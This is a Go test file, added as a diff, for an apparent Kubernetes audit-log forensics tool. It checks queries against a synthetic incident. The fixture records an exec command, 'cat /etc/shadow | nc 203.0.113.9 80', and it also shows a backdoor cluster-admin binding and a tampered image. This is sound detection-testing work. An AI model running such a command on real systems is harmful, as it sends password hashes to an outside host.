@@ -1,0 +1,498 @@
+package investigate
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/kubetrail/kubetrail/internal/audit"
+	"github.com/kubetrail/kubetrail/internal/query"
+)
+
+func summaries(qs []*Request) []string {
+	out := []string{}
+	for _, q := range qs {
+		out = append(out, summary(q))
+	}
+	return out
+}
+
+func TestWho(t *testing.T) {
+	r := openFixture(t, incident())
+	f := func(name string, q WhoQuery, want ...string) {
+		t.Helper()
+		rep, err := Who(r, q)
+		if err != nil {
+			t.Fatalf("%s: %v", name, err)
+		}
+		if diff := cmp.Diff(append([]string{}, want...), summaries(rep.Requests)); diff != "" {
+			t.Errorf("%s (-want +got):\n%s", name, diff)
+		}
+	}
+	target := func(s string) Target {
+		tg, err := ParseTarget(s)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return tg
+	}
+	// The seed question: one row for the two-stage delete, its last stage.
+	f("who deleted secret important in production",
+		WhoQuery{Verbs: Verbs("delete"), Target: target("secrets/important"), Namespace: "production"},
+		"12 alice delete secrets/important -n production ResponseComplete 200 allow")
+	f("singular name and past tense", WhoQuery{Verbs: Verbs("deleted"), Target: target("secret/important"), Namespace: "production"},
+		"12 alice delete secrets/important -n production ResponseComplete 200 allow")
+	f("every stage", WhoQuery{Verbs: Verbs("delete"), Target: target("secret/important"), Namespace: "production", AllStages: true},
+		"12 alice delete secrets/important -n production RequestReceived ",
+		"12 alice delete secrets/important -n production ResponseComplete 200 allow")
+	f("any namespace", WhoQuery{Verbs: Verbs("delete"), Target: target("secret/important")},
+		"12 alice delete secrets/important -n production ResponseComplete 200 allow",
+		"13 bob delete secrets/important -n staging ResponseComplete 200 allow")
+	f("namespace glob", WhoQuery{Verbs: Verbs("delete"), Target: target("secret/important"), Namespace: "stag*"},
+		"13 bob delete secrets/important -n staging ResponseComplete 200 allow")
+	f("read = get, list, watch; no name = any", WhoQuery{Verbs: Verbs("read"), Target: target("secret"), Namespace: "production"},
+		"11 alice get secrets/important -n production ResponseComplete 200 allow",
+		"20 bob list secrets -n production ResponseComplete 403 forbid",
+		"70 eve list secrets -n production ResponseComplete 200 allow")
+	f("a subresource, with a short name", WhoQuery{Verbs: Verbs("create,get"), Target: target("po/web/exec")},
+		"40 admin get pods/web/exec -n production ResponseComplete 101 allow",
+		"41 admin create pods/web/exec -n production ResponseComplete 101 allow")
+	f("the object without its subresources", WhoQuery{Verbs: Verbs("*"), Target: target("pods/web")},
+		"21 bob get pods/web -n production ResponseComplete 403 forbid")
+	f("a namespace is cluster-scoped: -n is ignored", WhoQuery{Verbs: Verbs("create"), Target: target("ns/production"), Namespace: "production"})
+	f("an API group", WhoQuery{Verbs: Verbs("changed"), Target: target("deploy.apps/web")},
+		"60 admin create deployments/web -n production ResponseComplete 201 allow",
+		"61 mallory patch deployments/web -n production ResponseComplete 200 allow",
+		"62 mallory update deployments/web -n production ResponseComplete 200 allow",
+		"63 admin update deployments/web -n production ResponseComplete 409 allow",
+		"66 admin delete deployments/web -n production ResponseComplete 200 allow")
+	f("the wrong API group", WhoQuery{Verbs: Verbs("create"), Target: target("deploy.extensions/web")})
+	// A client-chosen Audit-ID shared by two requests: both are shown.
+	f("audit ID is not unique", WhoQuery{Verbs: Verbs("delete"), Target: target("cm")},
+		"80 alice delete configmaps/a -n production ResponseComplete 200 allow",
+		"81 alice delete configmaps/b -n production ResponseComplete 200 allow")
+	f("with --where and --limit", WhoQuery{Verbs: Verbs("changed"), Target: target("deploy/web"), Scope: Scope{Where: "user=mallory", Limit: 1}},
+		"62 mallory update deployments/web -n production ResponseComplete 200 allow")
+	f("time window", WhoQuery{Verbs: Verbs("any"), Target: target("secrets"),
+		Scope: Scope{Since: t0.Add(11 * 1e9).UnixMicro(), Until: t0.Add(20 * 1e9).UnixMicro()}},
+		"11 alice get secrets/important -n production ResponseComplete 200 allow",
+		"12 alice delete secrets/important -n production ResponseComplete 200 allow",
+		"13 bob delete secrets/important -n staging ResponseComplete 200 allow")
+
+	rep, err := Who(r, WhoQuery{Verbs: Verbs("delete"), Target: target("secrets/important"), Namespace: "production"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	q := rep.Requests[0]
+	if q.AuditID != "del-1" || !cmp.Equal(q.Stages, []string{"RequestReceived", "ResponseComplete"}) ||
+		!cmp.Equal(q.Groups, []string{"developers", "system:authenticated"}) || q.Peer != "10.0.0.5" || q.Cluster != "prod" {
+		t.Errorf("who: request %+v", q)
+	}
+	want := `TIME                      USER   GROUPS                           AS  SOURCE IPS      USER AGENT       VERB    NAMESPACE   OBJECT             STAGE             RESULT
+2026-11-23T10:00:12.000Z  alice  developers,system:authenticated  -   10.0.0.5(peer)  kubectl/v1.37.2  delete  production  secrets/important  ResponseComplete  200 allow
+1 request by alice(1)
+`
+	if got := render(t, rep, "table"); got != want {
+		t.Errorf("who table:\n%s\nwant:\n%s", got, want)
+	}
+}
+
+func TestWhereErrors(t *testing.T) {
+	r := openFixture(t, incident())
+	_, err := Who(r, WhoQuery{Verbs: Verbs("get"), Target: Target{Resources: []string{"pods"}}, Scope: Scope{Where: "verb=get usr=alice"}})
+	qe, ok := IsQueryError(err)
+	if !ok || qe.Col != 10 || !strings.Contains(qe.Msg, `did you mean "user"`) {
+		t.Fatalf("a mistake in --where must come back positioned in it: %v", err)
+	}
+	if _, err := From(r, FromQuery{Addr: "not-an-ip"}); err == nil {
+		t.Error("from not-an-ip: no error")
+	}
+	if _, err := Activity(r, ActivityQuery{}); err == nil {
+		t.Error("activity without a user: no error")
+	}
+}
+
+func TestActivity(t *testing.T) {
+	r := openFixture(t, incident())
+	rep, err := Activity(r, ActivityQuery{User: "alice"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{
+		"10 alice create secrets/important -n production ResponseComplete 201 allow",
+		"11 alice get secrets/important -n production ResponseComplete 200 allow",
+		"12 alice delete secrets/important -n production ResponseComplete 200 allow",
+		"30 admin list pods -n production as alice ResponseComplete 200 allow", // admin impersonating alice
+		"80 alice delete configmaps/a -n production ResponseComplete 200 allow",
+		"81 alice delete configmaps/b -n production ResponseComplete 200 allow",
+	}
+	if diff := cmp.Diff(want, summaries(rep.Requests)); diff != "" {
+		t.Errorf("activity alice (-want +got):\n%s", diff)
+	}
+	rep, err = Activity(r, ActivityQuery{User: "system:serviceaccount:kube-system:*", Scope: Scope{Limit: 5}})
+	if err != nil || len(rep.Requests) != 1 || rep.Requests[0].Name != "sa-token" {
+		t.Errorf("activity with a glob: %v %v", summaries(rep.Requests), err)
+	}
+	text := render(t, rep, "table")
+	if !strings.Contains(text, "1 request from 2026-11-23T10:00:01.000Z to 2026-11-23T10:00:01.000Z (get(1)); 0 failed") {
+		t.Errorf("activity table:\n%s", text)
+	}
+	rep, _ = Activity(r, ActivityQuery{User: "nobody"})
+	if text := render(t, rep, "table"); text != "no requests by or as nobody\n" {
+		t.Errorf("empty activity: %q", text)
+	}
+}
+
+func TestHistory(t *testing.T) {
+	r := openFixture(t, incident())
+	rep, err := History(r, HistoryQuery{Target: Target{Resources: Resources("deploy"), Name: "web"}, Namespace: "production", Diffs: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	type row struct{ What, Body, Diff string }
+	var got []row
+	for _, c := range rep.Changes {
+		d := c.Diff
+		if c.Patch != nil {
+			d = "patch " + string(c.Patch)
+		}
+		got = append(got, row{summary(c.Request), c.Body, d})
+	}
+	want := []row{
+		{"60 admin create deployments/web -n production ResponseComplete 201 allow", "responseObject", "@@ -0,0 +1,23 @@\n+{\n" +
+			"+  \"apiVersion\": \"apps/v1\",\n+  \"kind\": \"Deployment\",\n+  \"metadata\": {\n+    \"generation\": 1,\n+    \"name\": \"web\",\n" +
+			"+    \"namespace\": \"production\",\n+    \"uid\": \"u-1\"\n+  },\n+  \"spec\": {\n+    \"replicas\": 1,\n+    \"template\": {\n" +
+			"+      \"spec\": {\n+        \"containers\": [\n+          {\n+            \"image\": \"web:1.0\",\n+            \"name\": \"web\"\n" +
+			"+          }\n+        ]\n+      }\n+    }\n+  }\n+}"},
+		// managedFields and resourceVersion changed too, and are left out.
+		{"61 mallory patch deployments/web -n production ResponseComplete 200 allow", "responseObject", "@@ -2,7 +2,7 @@\n" +
+			"   \"apiVersion\": \"apps/v1\",\n   \"kind\": \"Deployment\",\n   \"metadata\": {\n-    \"generation\": 1,\n+    \"generation\": 2,\n" +
+			"     \"name\": \"web\",\n     \"namespace\": \"production\",\n     \"uid\": \"u-1\"\n@@ -13,7 +13,7 @@\n" +
+			"       \"spec\": {\n         \"containers\": [\n           {\n-            \"image\": \"web:1.0\",\n+            \"image\": \"evil:6.6.6\",\n" +
+			"             \"name\": \"web\"\n           }\n         ]"},
+		// Only the request body (level Request): it is the object sent.
+		{"62 mallory update deployments/web -n production ResponseComplete 200 allow", "requestObject", "@@ -2,13 +2,13 @@\n" +
+			"   \"apiVersion\": \"apps/v1\",\n   \"kind\": \"Deployment\",\n   \"metadata\": {\n-    \"generation\": 2,\n+    \"generation\": 3,\n" +
+			"     \"name\": \"web\",\n     \"namespace\": \"production\",\n     \"uid\": \"u-1\"\n   },\n   \"spec\": {\n-    \"replicas\": 1,\n+    \"replicas\": 5,\n" +
+			"     \"template\": {\n       \"spec\": {\n         \"containers\": ["},
+		// A failed write changes nothing and shows no diff.
+		{"63 admin update deployments/web -n production ResponseComplete 409 allow", "", ""},
+		// A patch of the status subresource logged at Request level: the
+		// patch, not a state.
+		{"65 admin patch deployments/web/status -n production ResponseComplete 200 allow", "", `patch {"status":{"readyReplicas":5}}`},
+		// The delete answered with a Status: no state.
+		{"66 admin delete deployments/web -n production ResponseComplete 200 allow", "", ""},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("history deploy/web (-want +got):\n%s", diff)
+	}
+	if rep.NoBody != 1 {
+		t.Errorf("NoBody = %d, want 1 (the delete)", rep.NoBody)
+	}
+	text := render(t, rep, "table")
+	for _, s := range []string{
+		"2026-11-23T10:01:01.000Z  mallory  -   patch   production  deployments/web         200 allow  10.0.0.5(peer)\n    @@ -2,7 +2,7 @@\n",
+		"    -            \"image\": \"web:1.0\",\n    +            \"image\": \"evil:6.6.6\",\n",
+		"    patch sent (the response did not carry the object):\n    {\n      \"status\": {\n        \"readyReplicas\": 5\n      }\n    }\n",
+		"1 successful change carried no body",
+	} {
+		if !strings.Contains(text, s) {
+			t.Errorf("history table lacks %q:\n%s", s, text)
+		}
+	}
+
+	// --reads adds the get; --diff=false leaves bodies out.
+	rep, err = History(r, HistoryQuery{Target: Target{Resources: Resources("deployment"), Name: "web"}, Reads: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rep.Changes) != 7 || rep.Changes[4].Verb != "get" || rep.Changes[0].Diff != "" {
+		t.Errorf("history --reads --diff=false: %d changes, %v", len(rep.Changes), summaries(requestsOf(rep.Changes)))
+	}
+
+	// A pod's exec sessions are not changes to the pod.
+	rep, err = History(r, HistoryQuery{Target: Target{Resources: Resources("po"), Name: "web"}, Namespace: "production", Diffs: true})
+	if err != nil || len(rep.Changes) != 0 {
+		t.Errorf("history pod/web: %v %v", summaries(requestsOf(rep.Changes)), err)
+	}
+}
+
+func requestsOf(cs []*Change) []*Request {
+	var out []*Request
+	for _, c := range cs {
+		out = append(out, c.Request)
+	}
+	return out
+}
+
+func TestHistoryRecreated(t *testing.T) {
+	cm := func(v string) string {
+		return `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"c","namespace":"d"},"data":{"k":"` + v + `"}}`
+	}
+	evs := []*evb{
+		req(1, "a", "create", "/api/v1/namespaces/d/configmaps").obj("configmaps", "d", "c").level(audit.LevelRequestResponse).code(201, "allow").respBody(cm("1")),
+		req(2, "a", "update", "/api/v1/namespaces/d/configmaps/c").obj("configmaps", "d", "c").level(audit.LevelRequestResponse).code(200, "allow").respBody(cm("1")),
+		req(3, "a", "delete", "/api/v1/namespaces/d/configmaps/c").obj("configmaps", "d", "c").level(audit.LevelRequestResponse).code(200, "allow").respBody(cm("1")),
+		req(4, "b", "create", "/api/v1/namespaces/d/configmaps").obj("configmaps", "d", "c").level(audit.LevelRequestResponse).code(201, "allow").respBody(cm("2")),
+		req(5, "b", "patch", "/api/v1/namespaces/d/configmaps/c").obj("configmaps", "d", "c").level(audit.LevelMetadata).code(200, "allow"),
+		req(6, "b", "patch", "/api/v1/namespaces/d/configmaps/c").obj("configmaps", "d", "c").level(audit.LevelRequestResponse).code(200, "allow").respBody(cm("3")),
+	}
+	r := openFixture(t, evs)
+	rep, err := History(r, HistoryQuery{Target: Target{Resources: Resources("configmap"), Name: "c"}, Namespace: "d", Diffs: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rep.Changes) != 6 {
+		t.Fatalf("%d changes, want 6", len(rep.Changes))
+	}
+	c := rep.Changes
+	if !c[1].Unchanged || c[2].Diff != "" || !c[2].Unchanged {
+		t.Errorf("an update and a delete that leave the body as it was must say so: %+v %+v", c[1], c[2])
+	}
+	// The second creation starts a new life: the whole object again.
+	if !strings.HasPrefix(c[3].Diff, "@@ -0,0 +1,") || !strings.Contains(c[3].Diff, `+    "k": "2"`) {
+		t.Errorf("re-creation diff:\n%s", c[3].Diff)
+	}
+	// After a change of unknown effect, the next state is shown whole.
+	if c[4].Diff != "" || c[4].Body != "" || !strings.HasPrefix(c[5].Diff, "@@ -0,0 +1,") {
+		t.Errorf("after a Metadata-level patch: %q / %q", c[4].Diff, c[5].Diff)
+	}
+	if rep.NoBody != 1 {
+		t.Errorf("NoBody = %d, want 1", rep.NoBody)
+	}
+}
+
+func TestSecrets(t *testing.T) {
+	r := openFixture(t, incident())
+	rep, err := Secrets(r, SecretsQuery{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	type row struct {
+		User, As, Verb   string
+		Requests, Failed int
+		Secrets, Flag    string
+	}
+	var got []row
+	for _, a := range rep.Accesses {
+		got = append(got, row{a.User, a.As, a.Verb, a.Requests, a.Failed, fmtList(a.Secrets, 0), a.Flag})
+	}
+	want := []row{
+		{"alice", "", "get", 1, 0, "production/important", "non-system read"},
+		{"alice", "", "create", 1, 0, "production/important", ""},
+		{"alice", "", "delete", 1, 0, "production/important", ""}, // one request, two stages
+		{"bob", "", "list", 1, 1, "production/*", "non-system read attempt"},
+		{"bob", "", "delete", 1, 0, "staging/important", ""},
+		{"eve", "", "list", 1, 0, "production/*", "non-system read"},
+		{"system:serviceaccount:kube-system:token-controller", "", "get", 1, 0, "kube-system/sa-token", ""},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("secrets (-want +got):\n%s", diff)
+	}
+	text := render(t, rep, "table")
+	for _, s := range []string{"USER  ", "! non-system read attempt", "7 requests on secrets by 4 users", "3 rows flagged"} {
+		if !strings.Contains(text, s) {
+			t.Errorf("secrets table lacks %q:\n%s", s, text)
+		}
+	}
+}
+
+func TestExecs(t *testing.T) {
+	r := openFixture(t, incident())
+	rep, err := Execs(r, ExecsQuery{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	type row struct {
+		What, Kind, Transport, Container, Cmd string
+		Ports                                 []string
+		Stdin, TTY                            bool
+	}
+	var got []row
+	for _, e := range rep.Execs {
+		got = append(got, row{summary(e.Request), e.Kind, e.Transport, e.Container, shellJoin(e.Command), e.Ports, e.Stdin, e.TTY})
+	}
+	want := []row{
+		{"40 admin get pods/web/exec -n production ResponseComplete 101 allow", "exec", "websocket", "app", `sh -c 'cat /etc/shadow | nc 203.0.113.9 80'`, nil, true, true},
+		{"41 admin create pods/web/exec -n production ResponseComplete 101 allow", "exec", "spdy", "app", `sh -c 'cat /etc/shadow | nc 203.0.113.9 80'`, nil, true, true},
+		{"42 admin create pods/web/portforward -n production ResponseComplete 101 allow", "portforward", "spdy", "", "", []string{"8080", "9090"}, false, false},
+		{"43 admin get pods/web/attach -n production ResponseComplete 101 allow", "attach", "websocket", "app", "", nil, true, false},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("execs (-want +got):\n%s", diff)
+	}
+	text := render(t, rep, "table")
+	for _, s := range []string{
+		"production  web  exec         app        sh -c 'cat /etc/shadow | nc 203.0.113.9 80'  websocket (get)",
+		"portforward  -          ports 8080,9090",
+		"4 requests by admin(4)",
+	} {
+		if !strings.Contains(text, s) {
+			t.Errorf("execs table lacks %q:\n%s", s, text)
+		}
+	}
+	// -o wide: every stage of the WebSocket session.
+	rep, err = Execs(r, ExecsQuery{AllStages: true})
+	if err != nil || len(rep.Execs) != 5 || rep.Execs[0].Stage != "ResponseStarted" {
+		t.Errorf("execs, all stages: %d rows, %v", len(rep.Execs), err)
+	}
+}
+
+func TestDenied(t *testing.T) {
+	r := openFixture(t, incident())
+	rep, err := Denied(r, DeniedQuery{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	type row struct {
+		User                                 string
+		Requests                             int
+		Codes, Verbs, Resources, Peers, Last string
+	}
+	var got []row
+	for _, u := range rep.Users {
+		got = append(got, row{u.User, u.Requests, fmtCounts(u.codes, 0, ","), fmtCounts(u.verbs, 0, ","), fmtCounts(u.resources, 0, ","), fmtCounts(u.peers, 0, ","),
+			u.Last.Sub(t0).String()})
+	}
+	want := []row{
+		{"bob", 3, "403(3)", "get(2),list(1)", "pods(2),secrets(1)", "10.0.0.5(3)", "22s"},
+		{"", 1, "401(1)", "get(1)", "/version(1)", "198.51.100.7(1)", "23s"},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("denied (-want +got):\n%s", diff)
+	}
+	text := render(t, rep, "table")
+	for _, s := range []string{"bob                3         403(3)", "(unauthenticated)  1         401(1)", "4 requests denied to 2 users (3 x 403, 1 x 401)"} {
+		if !strings.Contains(text, s) {
+			t.Errorf("denied table lacks %q:\n%s", s, text)
+		}
+	}
+}
+
+func TestRBAC(t *testing.T) {
+	r := openFixture(t, incident())
+	rep, err := RBAC(r, RBACQuery{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	type row struct {
+		What, Kind, RoleRef, Subjects, Flags, Body string
+	}
+	var got []row
+	for _, c := range rep.Changes {
+		got = append(got, row{summary(c.Request), c.Kind, c.RoleRef, strings.Join(c.Subjects, ","), strings.Join(c.Flags, ","), c.Body})
+	}
+	want := []row{
+		{"50 mallory create clusterrolebindings/backdoor ResponseComplete 201 allow", "ClusterRoleBinding", "ClusterRole/cluster-admin",
+			"User/eve,ServiceAccount/ci/default", "cluster-admin", "responseObject"},
+		{"51 mallory create roles/all -n production ResponseComplete 201 allow", "Role", "", "", "wildcard,grants bind|impersonate", "requestObject"},
+		{"52 admin delete rolebindings/view -n production ResponseComplete 200 allow", "RoleBinding", "", "", "", ""},
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("rbac (-want +got):\n%s", diff)
+	}
+	text := render(t, rep, "table")
+	for _, s := range []string{"ClusterRole/cluster-admin  User/eve,ServiceAccount/ci/default", "! cluster-admin", "3 changes by mallory(2), admin(1); 2 flagged",
+		"1 change carried no body"} {
+		if !strings.Contains(text, s) {
+			t.Errorf("rbac table lacks %q:\n%s", s, text)
+		}
+	}
+}
+
+func TestFrom(t *testing.T) {
+	r := openFixture(t, incident())
+	f := func(addr string, want ...string) {
+		t.Helper()
+		rep, err := From(r, FromQuery{Addr: addr})
+		if err != nil {
+			t.Fatalf("from %s: %v", addr, err)
+		}
+		got := []string{}
+		for _, q := range rep.Requests {
+			got = append(got, summary(q.Request)+" "+q.Match)
+		}
+		if diff := cmp.Diff(append([]string{}, want...), got); diff != "" {
+			t.Errorf("from %s (-want +got):\n%s", addr, diff)
+		}
+	}
+	f("192.168.1.100",
+		"70 eve list secrets -n production ResponseComplete 200 allow forwarded", // only claimed in X-Forwarded-For
+		"71 eve get configmaps/settings -n production ResponseComplete 200 allow peer")
+	f("192.168.0.0/16",
+		"70 eve list secrets -n production ResponseComplete 200 allow forwarded",
+		"71 eve get configmaps/settings -n production ResponseComplete 200 allow peer",
+		"72 eve get configmaps/other -n production ResponseComplete 200 allow peer") // ::ffff:192.168.1.7 is 192.168.1.7
+	f("198.51.100.7", "23 (unauthenticated) get /version ResponseStarted 401 peer")
+	f("10.0.0.9", "70 eve list secrets -n production ResponseComplete 200 allow peer")
+	f("2001:db8::/32")
+
+	rep, _ := From(r, FromQuery{Addr: "192.168.1.100"})
+	text := render(t, rep, "table")
+	for _, s := range []string{"192.168.1.100,10.0.0.9(peer)  forwarded only", "match peer: 1 ", "forwarded only: 1 "} {
+		if !strings.Contains(text, s) {
+			t.Errorf("from table lacks %q:\n%s", s, text)
+		}
+	}
+}
+
+func TestWriteFormats(t *testing.T) {
+	r := openFixture(t, incident())
+	rep, err := Execs(r, ExecsQuery{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	var arr []map[string]any
+	if err := json.Unmarshal([]byte(render(t, rep, "json")), &arr); err != nil || len(arr) != 4 {
+		t.Fatalf("-o json: %d records, %v", len(arr), err)
+	}
+	if arr[0]["kind"] != "exec" || arr[0]["user"] != "admin" || arr[0]["peer"] != "10.0.0.5" || arr[0]["time"] != "2026-11-23T10:00:40Z" {
+		t.Errorf("-o json record: %v", arr[0])
+	}
+	lines := strings.Split(strings.TrimSpace(render(t, rep, "jsonl")), "\n")
+	if len(lines) != 4 || !strings.Contains(lines[0], `"command":["sh","-c","cat /etc/shadow | nc 203.0.113.9 80"]`) {
+		t.Errorf("-o jsonl:\n%s", strings.Join(lines, "\n"))
+	}
+	wide := render(t, rep, "wide")
+	if !strings.Contains(wide, "STDIN/TTY") || !strings.Contains(wide, "stdin,tty") {
+		t.Errorf("-o wide:\n%s", wide)
+	}
+	empty, _ := Denied(openFixture(t, incident()[:1]), DeniedQuery{})
+	if got := render(t, empty, "json"); got != "[]\n" {
+		t.Errorf("empty -o json: %q", got)
+	}
+	if got := render(t, empty, "table"); got != "no denied requests\n" {
+		t.Errorf("empty table: %q", got)
+	}
+	if err := Write(&strings.Builder{}, empty, "yaml"); err == nil {
+		t.Error("-o yaml: no error")
+	}
+}
+
+// TestOrSplit checks that selecting the terms of an "or" one by one (so
+// that the store answers each from its columns) gives exactly what the
+// whole filter selects.
+func TestOrSplit(t *testing.T) {
+	r := openFixture(t, incident())
+	for _, o := range []query.Expr{
+		or(in("code", "401", "403"), eq("decision", "forbid")),
+		or(eq("user", "alice"), eq("as", "alice")),
+		or(eq("verb", "delete"), eq("resource", "secrets"), eq("ns", "production")),
+	} {
+		for _, allStages := range []bool{false, true} {
+			split, err := collect(r, Scope{}, o, allStages, false)
+			if err != nil {
+				t.Fatal(err)
+			}
+			whole, err := collect(r, Scope{}, &query.Not{X: &query.Not{X: o}}, allStages, false)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if diff := cmp.Diff(summaries(whole), summaries(split)); diff != "" || len(whole) == 0 {
+				t.Errorf("%s (all stages %v): split differs from whole (-whole +split):\n%s", o, allStages, diff)
+			}
+		}
+	}
+}
